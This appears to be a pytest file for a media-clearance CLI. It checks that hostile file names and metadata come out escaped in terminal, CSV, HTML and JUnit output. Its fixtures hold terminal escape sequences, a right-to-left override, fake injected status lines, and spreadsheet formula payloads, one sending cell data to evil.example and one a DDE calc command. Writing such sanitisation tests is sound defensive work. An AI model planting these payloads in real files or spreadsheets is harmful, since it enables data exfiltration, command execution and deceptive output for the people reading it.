"""Hostile names and values in the text outputs: terminal tables, CSV cells, JUnit XML.

File names and sidecar values come from artists' files; a terminal acts on escape sequences
and bidi controls, XML forbids some characters, a spreadsheet runs formulas. Real files in
``tmp_path``, the real CLI through subprocess.
"""

from __future__ import annotations

import csv
import html
import io
import json
import random
import re
import shutil
import unicodedata
import xml.etree.ElementTree as ET
from collections.abc import Callable
from pathlib import Path

import pytest

from clearance._display import shown, xml_safe
from clearance.model import Outcome
from clearance.report import Filters, build_report
from clearance.report_text import render_junit
from conftest import run_cli
from test_lineage import single, write_config
from test_report import write_show_log

ESC_NAME = "comp/sh010_\x1b[2J\x1b[31mclean.exr"
RTL_NAME = "comp/sh020_\u202egnp.exe.exr"
NL_NAME = "comp/sh040_line1\nFAKE: 0 open findings.exr"
EVIL_TOOL = "evil\x1b[2J\x1b]0;pwned\x07tool\nPASS    fake"

#: what must never reach a terminal raw
RAW = ("\x1b", "\x07", "\u202e", "\r")


def hostile_show(root: Path) -> Path:
    """A comp stage whose file names and sidecar values hold escapes, an RTL override and
    newlines; scanned once, so its audit log and state store exist."""
    write_config(root, [{"name": "comp", "paths": ["comp/"]}])
    for rel in (ESC_NAME, RTL_NAME, NL_NAME):
        single(root, rel)
        doc = {
            "provenance": 1,
            "asset": rel.rsplit("/", 1)[-1],
            "production": "SHOW01",
            "shot": "sh\x1b[2J010",
            "generated": True,
            "source_type": "trainedAlgorithmicMedia",
            "steps": [{"tool": EVIL_TOOL, "inputs": []}],
            "output": {"use": "final", "on_screen": "background", "subject": "incidental"},
        }
        (root / f"{rel}.genai.json").write_text(json.dumps(doc), encoding="utf-8")
    return root


def assert_neutralised(text: str) -> None:
    for char in RAW:
        assert char not in text, f"{char!r} printed raw"
    lines = text.splitlines()
    assert not [line for line in lines if line.startswith(("FAKE", "PASS    fake"))], lines


def test_shown_escapes_controls_bidi_and_line_breaks_only() -> None:
    assert shown("comp/sh010_v001.####.exr") == "comp/sh010_v001.####.exr"
    assert shown("café – naïve 日本") == "café – naïve 日本"
    assert shown("a\x1b[2Jb\tc\nd\re\x7f\x85") == '"a\\x1b[2Jb\\tc\\nd\\re\\x7f\\x85"'
    assert shown("x\u202ey\u2066z\u200f\u061c\u2028") == '"x\\u202ey\\u2066z\\u200f\\u061c\\u2028"'
    assert shown(None) == "" and shown(1001) == "1001"


def unshown(text: str) -> str:
    """What :func:`shown` was given, read back from what it printed: a value in quotes is
    read as a string literal (``\\\\``, ``\\"``, ``\\xNN``, ``\\uNNNN``,
    ``\\UNNNNNNNN``, ``\\n``, ``\\t``, ``\\r``); any other as it is."""
    if not text.startswith('"'):
        return text
    assert text.endswith('"') and len(text) > 1, text
    named = {"\\": "\\", '"': '"', "n": "\n", "t": "\t", "r": "\r"}

    def one(match: re.Match[str]) -> str:
        escape = match.group(1)
        return named.get(escape) or chr(int(escape[1:], 16))

    body = text[1:-1]
    escape = r'\\([\\"ntr]|x[0-9a-f]{2}|u[0-9a-f]{4}|U[0-9a-f]{8})'
    assert re.fullmatch(rf'(?:[^\\"]|{escape})*', body), text
    return re.sub(escape, one, body)


def test_shown_tells_an_escaped_value_from_one_written_as_its_escape() -> None:
    """A name holding a real ESC and one holding the text ``\\x1b`` are printed differently:
    a value with anything escaped is printed in quotes, its backslashes doubled, and so is a
    value that holds something that reads as an escape (or starts with a quote); an ordinary
    Windows path is printed as it is."""
    assert shown("esc\x1b[2Jx") == '"esc\\x1b[2Jx"'
    assert shown("lit\\x1b[2J") == '"lit\\\\x1b[2J"'
    assert shown("C:\\shows\\SHOW01\\comp\\sh010.exr") == "C:\\shows\\SHOW01\\comp\\sh010.exr"
    assert shown('say "hi"') == 'say "hi"'
    for lookalike in ("C:\\temp", "\\\\server\\share", "a\\u202e", "a\\nb", "\\U0001f600", 'a\\"'):
        assert shown(lookalike) == '"' + lookalike.replace("\\", "\\\\").replace('"', '\\"') + '"'
    assert shown('"quoted"') == '"\\"quoted\\""'
    assert shown("C:\\shows\n") == '"C:\\\\shows\\n"'
    rng = random.Random(7)
    seen: dict[str, str] = {}
    for _ in range(5_000):
        text = random_text(rng, rng.randrange(0, 12), extra='\\x1b"une\u0301\u200b\u1161')
        printed = shown(text)
        assert printed.isprintable() and unicodedata.is_normalized("NFC", printed), repr(printed)
        assert unshown(printed) == text, (text, printed)
        assert seen.setdefault(printed, text) == text  # two values are never printed alike


#: names a terminal or a browser shows alike: zero-width and other format characters, a
#: space that is not the space, a name written decomposed (as macOS writes it) and composed
LOOK_ALIKES = {
    "a.png": "a.png",
    "a\u200b.png": '"a\\u200b.png"',  # zero-width space
    "a\u200c.png": '"a\\u200c.png"',  # zero-width non-joiner
    "a\u200d.png": '"a\\u200d.png"',  # zero-width joiner
    "a\u2060.png": '"a\\u2060.png"',  # word joiner
    "\ufeffa.png": '"\\ufeffa.png"',  # byte order mark
    "a\u00ad.png": '"a\\xad.png"',  # soft hyphen
    "a\U000e0041.png": '"a\\U000e0041.png"',  # a tag character
    "n b.png": "n b.png",
    "n\u00a0b.png": '"n\\xa0b.png"',  # no-break space
    "caf\u00e9.png": "caf\u00e9.png",  # é, composed (NFC): as it is
    "cafe\u0301.png": '"cafe\\u0301.png"',  # e and a combining acute accent
    "\u00c5.png": "\u00c5.png",
    "\u212b.png": '"\\u212b.png"',  # ANGSTROM SIGN, which NFC replaces with U+00C5
}


def test_shown_tells_look_alike_names_apart() -> None:
    """Names that read alike are shown apart: a format character (Unicode category Cf:
    zero-width space and joiners, word joiner, BOM, soft hyphen, tags) or a space other than
    the space is escaped, and a name that is not in Unicode's composed form (NFC) has what
    composing would change escaped. Plain ASCII, ordinary accented names in NFC and scripts
    whose marks do not compose are shown as they are."""
    for name, printed in LOOK_ALIKES.items():
        assert shown(name) == printed, name
        assert unshown(printed) == name
    for plain in ("sh010_v001.####.exr", "café – naïve 日本", "\u0e01\u0e48.png", "q\u0301.png"):
        assert shown(plain) == plain  # (q with an acute has no composed form: NFC as it is)
    assert shown("\u0e01\u0e48e\u0301") == '"\u0e01\u0e48e\\u0301"'  # only what composes
    assert shown("\u1100\u1161.png") == '"\u1100\\u1161.png"'  # Hangul jamo, not \uac00
    assert shown("e\u0301\x1b") == '"e\\u0301\\x1b"'
    # a message: its format characters escaped, never quoted; its letters as written
    from clearance._display import shown_text

    assert shown_text("see a\u200b.png\ufeff") == "see a\\u200b.png\\ufeff"
    assert shown_text("cafe\u0301 n\u00a0b") == "cafe\u0301 n\u00a0b"


def test_scan_table_and_html_report_tell_look_alike_names_apart(tmp_path: Path) -> None:
    """Through the CLI: the ``scan`` table and the HTML report show each look-alike name
    apart from its twin (``a.png`` and ``a`` U+200B ``.png``; ``café.png`` composed and
    decomposed), and no page holds one raw."""
    from clearance.testing import ClearanceRun

    run = ClearanceRun(tmp_path / "show")
    run.root.mkdir()
    run.write_config()
    for name in LOOK_ALIKES:
        run.asset(f"comp/{name}")  # no provenance: PRV-01, a finding every output lists
    scanned = run_cli("scan", str(run.root))
    assert scanned.code == 1, scanned.stderr
    table = {line.split(None, 1)[1] for line in scanned.stdout.splitlines() if "comp/" in line}
    expected = {
        f"comp/{printed}" if printed[:1] != '"' else f'"comp/{printed[1:]}'
        for printed in LOOK_ALIKES.values()
    }
    assert table == expected
    out = tmp_path / "report.html"
    done = run_cli(
        "report", str(run.root / ".clearance/audit.jsonl"), "--format", "html", "-o", str(out)
    )
    assert done.code == 0, done.stderr
    page = out.read_text("utf-8")
    for printed in expected:
        assert f'class="asset">{html.escape(printed).replace("comp/", "comp/<wbr>")}<' in page
    hidden = [c for c in page if unicodedata.category(c) in ("Cf", "Mn") or c == "\u00a0"]
    assert not hidden and unicodedata.is_normalized("NFC", page)
    reported = run_cli("report", str(run.root / ".clearance/audit.jsonl"))  # the table
    assert reported.code == 0 and '"comp/a\\u200b.png"  [escalate]' in reported.stdout


def test_scan_and_check_tables_show_hostile_names_and_values_escaped(tmp_path: Path) -> None:
    root = hostile_show(tmp_path)
    result = run_cli("scan", str(root))
    assert result.code == 1, result.stderr
    assert_neutralised(result.stdout)
    assert "sh010_\\x1b[2J\\x1b[31mclean.exr" in result.stdout
    assert "sh020_\\u202egnp.exe.exr" in result.stdout
    assert "sh040_line1\\nFAKE: 0 open findings.exr" in result.stdout
    assert "evil\\x1b[2J\\x1b]0;pwned\\x07tool\\nPASS    fake" in result.stdout
    checked = run_cli("check", str(root / ESC_NAME), str(root / f"{NL_NAME}.genai.json"))
    assert checked.code == 1, checked.stderr
    assert_neutralised(checked.stdout)
    assert_neutralised(checked.stderr)  # "… is a sidecar: checking the asset it describes"
    assert 'sh040_line1\\nFAKE: 0 open findings.exr.genai.json" is a sidecar' in checked.stderr
    tree = run_cli("lineage", ESC_NAME, "--config", str(root / "clearance.yaml"))
    assert tree.code == 0, tree.stderr
    assert_neutralised(tree.stdout)
    assert tree.stdout.startswith('"comp/sh010_\\x1b[2J\\x1b[31mclean.exr"  [comp]')


def test_scan_table_prints_a_name_with_a_real_escape_and_one_written_as_it_differently(
    tmp_path: Path,
) -> None:
    """A file named with a real ESC, and a forged one named with the text ``\\x1b``: a
    supervisor reading the table can tell which is which."""
    write_config(tmp_path, [{"name": "comp", "paths": ["comp/"]}])
    real, forged = (
        single(tmp_path, "comp/esc\x1b[2Jx.exr"),
        single(tmp_path, "comp/lit\\x1b[2J.exr"),
    )
    plain = single(tmp_path, "comp/sh010_v001.exr")
    result = run_cli("scan", str(tmp_path))
    assert_neutralised(result.stdout)
    assert '"comp/esc\\x1b[2Jx.exr"' in result.stdout, result.stdout
    assert '"comp/lit\\\\x1b[2J.exr"' in result.stdout
    assert f" {plain}\n" in result.stdout  # an ordinary name: as it is
    assert shown(real) != shown(forged)


def test_report_table_shows_hostile_names_and_values_escaped(tmp_path: Path) -> None:
    root = hostile_show(tmp_path)
    run_cli("scan", str(root))
    result = run_cli("report", str(root / ".clearance" / "audit.jsonl"))
    assert result.code == 0, result.stderr
    assert_neutralised(result.stdout)
    assert '"comp/sh040_line1\\nFAKE: 0 open findings.exr"  [approval]' in result.stdout
    assert "comp/sh020_\\u202egnp.exe.exr" in result.stdout
    assert "evil\\x1b[2J\\x1b]0;pwned\\x07tool\\nPASS" in result.stdout


def test_json_report_keeps_the_values_exact(tmp_path: Path) -> None:
    root = hostile_show(tmp_path)
    run_cli("scan", str(root))
    result = run_cli("report", str(root / ".clearance" / "audit.jsonl"), "-f", "json")
    assert {a["asset"] for a in result.json()["assets"]} == {ESC_NAME, RTL_NAME, NL_NAME}


def hostile_cut(root: Path) -> Path:
    """An edit of missing media whose timeline, track and clip names are hostile."""
    otio = pytest.importorskip("opentimelineio")
    rate = 24

    def clip(name: str) -> object:
        span = otio.opentime.TimeRange(
            otio.opentime.RationalTime(0, rate), otio.opentime.RationalTime(24, rate)
        )
        return otio.schema.Clip(
            name=name, media_reference=otio.schema.MissingReference(), source_range=span
        )

    cut = otio.schema.Timeline(name="cut \x1b[2J\x1b[32mALL CLEAR")
    track = otio.schema.Track(name="V1\u202e")
    for name in (
        '=HYPERLINK("http://evil.example/?x="&A1,"click")',
        "sh999 \x1b[2J\x1b[1;1HNo GenAI material on screen.",
        "sh998\u202eevil",
        "sh997\nFAKE: 0 open findings",
        "@SUM(1+1)*cmd|' /C calc'!A0",
    ):
        track.append(clip(name))
    cut.tracks.append(track)
    path = root / "editorial" / "hostile.otio"
    path.parent.mkdir(parents=True, exist_ok=True)
    otio.adapters.write_to_file(cut, str(path))
    return path


def test_timeline_table_shows_hostile_names_escaped(tmp_path: Path) -> None:
    root = hostile_show(tmp_path)
    run_cli("scan", str(root))
    result = run_cli("timeline", str(hostile_cut(root)))
    assert result.code == 1, result.stderr
    assert_neutralised(result.stdout)
    assert '"cut \\x1b[2J\\x1b[32mALL CLEAR"' in result.stdout
    assert "sh997\\nFAKE: 0 open findings" in result.stdout
    assert "sh998\\u202eevil" in result.stdout and "V1\\u202e" in result.stdout


def test_validate_lines_and_error_lines_show_hostile_names_escaped(tmp_path: Path) -> None:
    root = hostile_show(tmp_path)
    valid = run_cli("validate", str(root / f"{NL_NAME}.genai.json"))
    assert valid.code == 0, valid.stdout + valid.stderr
    assert_neutralised(valid.stdout)
    # the file name is a value, in quotes: a file literally named ...line1\nFAKE... (a
    # backslash and an n) printed the same line as this one, unquoted
    assert valid.stdout.startswith('"') and (
        'sh040_line1\\nFAKE: 0 open findings.exr.genai.json": valid' in valid.stdout
    )
    literal = root / "comp" / "sh040_line1\\nFAKE: 0 open findings.exr.genai.json"
    shutil.copy(root / f"{NL_NAME}.genai.json", literal)
    both = run_cli("validate", str(literal), str(root / f"{NL_NAME}.genai.json"))
    first, second = both.stdout.splitlines()
    assert first != second and "line1\\\\nFAKE" in first and "line1\\nFAKE" in second
    missing = run_cli("validate", str(root / "comp" / "gone\x1b]0;pwned\x07\nFAKE: ok.json"))
    assert missing.code == 2
    assert_neutralised(missing.stderr)
    assert "gone\\x1b]0;pwned\\x07\\nFAKE: ok.json: no such file" in missing.stderr


def test_error_and_warning_lines_show_a_byte_that_is_not_utf8_as_names_show_it(
    tmp_path: Path,
) -> None:
    """A path whose name is not UTF-8 (the Latin-1 byte 0xE9) in a ``clearance: error:`` or
    ``warning:`` line, a ``check`` note or a ``verify`` line is written with ``\\xe9``, as
    the tables, the JSON and the audit log name the asset (``caf\\xe9.png``); it read
    ``\\udce9``, Python's stand-in for the byte, which names no file anyone can find. The
    audit log's events are unchanged."""
    import os

    from clearance.testing import ClearanceRun

    def latin1(path: Path, name: bytes) -> str:
        return os.fsdecode(os.fsencode(path) + b"/" + name)

    show = ClearanceRun(tmp_path / "show", stages=[{"name": "comp", "paths": ["comp/"]}])
    show.root.mkdir()
    show.write_config()
    show.asset("comp/v003/a.png")
    comp = show.root / "comp"
    os.mkfifo(latin1(comp, b"caf\xe9.png"))  # a run error
    os.symlink("v003", latin1(comp, b"latest\xe9"))  # a warning: walked already
    done = run_cli("scan", str(show.root))
    assert done.code == 2, done.stderr
    assert "\\udc" not in done.stderr, done.stderr
    lines = done.stderr.splitlines()
    assert f"clearance: error: {comp}/caf\\xe9.png: is a named pipe (FIFO)" in lines[0]
    assert lines[1].startswith(f'clearance: warning: "{comp}/latest\\\\xe9": a link to the')
    events = [json.loads(line) for line in (show.root / ".clearance/audit.jsonl").open()]
    said = {
        e["event"]: e["details"]["path"]
        for e in events
        if e["event"] in ("run.error", "run.warning")
    }
    assert said["run.error"] == f"{comp}/caf\\xe9.png"  # as the log always had it
    assert said["run.warning"] == f"{comp}/latest\\xe9"
    missing = run_cli("scan", latin1(show.root, b"gone\xe9"))
    assert f"clearance: error: {show.root}/gone\\xe9: no such file" in missing.stderr
    sidecar = Path(latin1(comp / "v003", b"b\xe9.png.genai.yaml"))
    show.asset("comp/v003/b\udce9.png", sidecar={"provenance": 1, "generated": False})
    assert sidecar.is_file()
    checked = run_cli("check", str(sidecar))
    said_check = f'clearance: "{comp}/v003/b\\\\xe9.png.genai.yaml" is a sidecar: checking'
    assert said_check in checked.stderr, checked.stderr
    log = Path(latin1(tmp_path, b"log\xe9.jsonl"))
    log.write_bytes((show.root / ".clearance/audit.jsonl").read_bytes())
    verified = run_cli("verify", str(log))
    assert verified.stdout.startswith(f'"{tmp_path}/log\\\\xe9.jsonl": intact'), verified.stdout


def random_text(rng: random.Random, size: int, extra: str = "") -> str:
    """Printable text, controls, XML's forbidden characters, surrogates, anything (and
    ``extra``'s characters)."""
    pools: tuple[Callable[[], str], ...] = (
        lambda: chr(rng.randrange(0x20)),
        lambda: rng.choice("\x7f\x85\ufffe\uffff\u202e\u2028<>&\"'=+-@"),
        lambda: chr(rng.randrange(0xD800, 0xE000)),
        lambda: chr(rng.randrange(0x110000)),
        lambda: chr(rng.randrange(0x20, 0x7F)),
    )
    if extra:
        pools += (lambda: rng.choice(extra),)
    return "".join(rng.choice(pools)() for _ in range(size))


def test_xml_safe_leaves_only_what_xml_allows() -> None:
    rng = random.Random(6)
    for _ in range(2_000):
        text = xml_safe(random_text(rng, rng.randrange(1, 40)))
        assert all(
            c in "\t\n\r"
            or 0x20 <= ord(c) < 0xD800
            or 0xE000 <= ord(c) <= 0xFFFD
            or ord(c) > 0xFFFF
            for c in text
        ), repr(text)
    assert xml_safe("ok <&> \t\n\r é") == "ok <&> \t\n\r é"
    assert xml_safe("a\x1b[2J\x00\ufffe") == "a\\x1b[2J\\x00\\ufffe"


def test_junit_parses_whatever_the_names_and_messages_hold(tmp_path: Path) -> None:
    rng = random.Random(11)
    outcomes = ("notice", "escalate", "approval", "block")
    show = [
        (
            "comp",
            f"comp/{random_text(rng, 12)}.exr",
            random_text(rng, 4),
            [("NFX-00", rng.choice(outcomes), "open", None, random_text(rng, 30))],
        )
        for _ in range(200)
    ]
    log = write_show_log(tmp_path / "audit.jsonl", show=show)
    report = build_report([str(log)], Filters())
    out = io.StringIO()
    render_junit(report, out, fail_on=Outcome.ESCALATE)
    root = ET.fromstring(out.getvalue().encode("utf-8"))
    names = sorted(case.get("name") or "" for case in root.iter("testcase"))
    assert len(names) == 200
    assert names == sorted(xml_safe(a.label) for a in report.assets)  # forbidden: escaped


def test_junit_report_of_a_hostile_show_is_well_formed_xml(tmp_path: Path) -> None:
    root = hostile_show(tmp_path)
    run_cli("scan", str(root))
    out = tmp_path / "junit.xml"
    result = run_cli(
        "report", str(root / ".clearance" / "audit.jsonl"), "-f", "junit", "-o", str(out)
    )
    assert result.code == 0, result.stderr
    cases = {c.get("name"): c for c in ET.parse(out).getroot().iter("testcase")}
    assert set(cases) == {
        "comp/sh010_\\x1b[2J\\x1b[31mclean.exr",
        "comp/sh020_\u202egnp.exe.exr",  # allowed in XML: kept as it is
        "comp/sh040_line1\nFAKE: 0 open findings.exr",
    }
    failure = cases["comp/sh020_\u202egnp.exe.exr"].find("failure")
    assert failure is not None and "evil\\x1b[2J\\x1b]0;pwned\\x07tool" in (failure.text or "")


def test_timeline_csv_guards_formula_cells_as_the_report_csv_does(tmp_path: Path) -> None:
    root = hostile_show(tmp_path)
    run_cli("scan", str(root))
    result = run_cli("timeline", str(hostile_cut(root)), "-f", "csv")
    assert result.code == 1, result.stderr
    rows = list(csv.DictReader(io.StringIO(result.stdout)))
    clips = [row["clip"] for row in rows]
    assert clips[0] == '\'=HYPERLINK("http://evil.example/?x="&A1,"click")'
    assert clips[4] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert clips[3] == "sh997\nFAKE: 0 open findings"  # quoted by csv: one cell, as it is
    for row in rows:
        assert not any(cell[:1] in ("=", "+", "-", "@") for cell in row.values()), row
    assert rows[0]["record_in"] == "00:00:00:00"  # a value that is no formula is kept


def test_a_message_is_escaped_but_never_quoted() -> None:
    """A sentence (a finding's message, an error line) keeps its own backslashes as written:
    a YAML error quoting a tab as ``'\\t'`` reads as it did; its control characters are
    escaped all the same."""
    from clearance._display import shown_text

    yaml_error = "a.yaml: invalid YAML: found character '\\t' that cannot start any token"
    assert shown_text(yaml_error) == yaml_error
    assert shown_text("bad\x1b[2Jname\nFAKE") == "bad\\x1b[2Jname\\nFAKE"
    assert shown_text(None) == ""
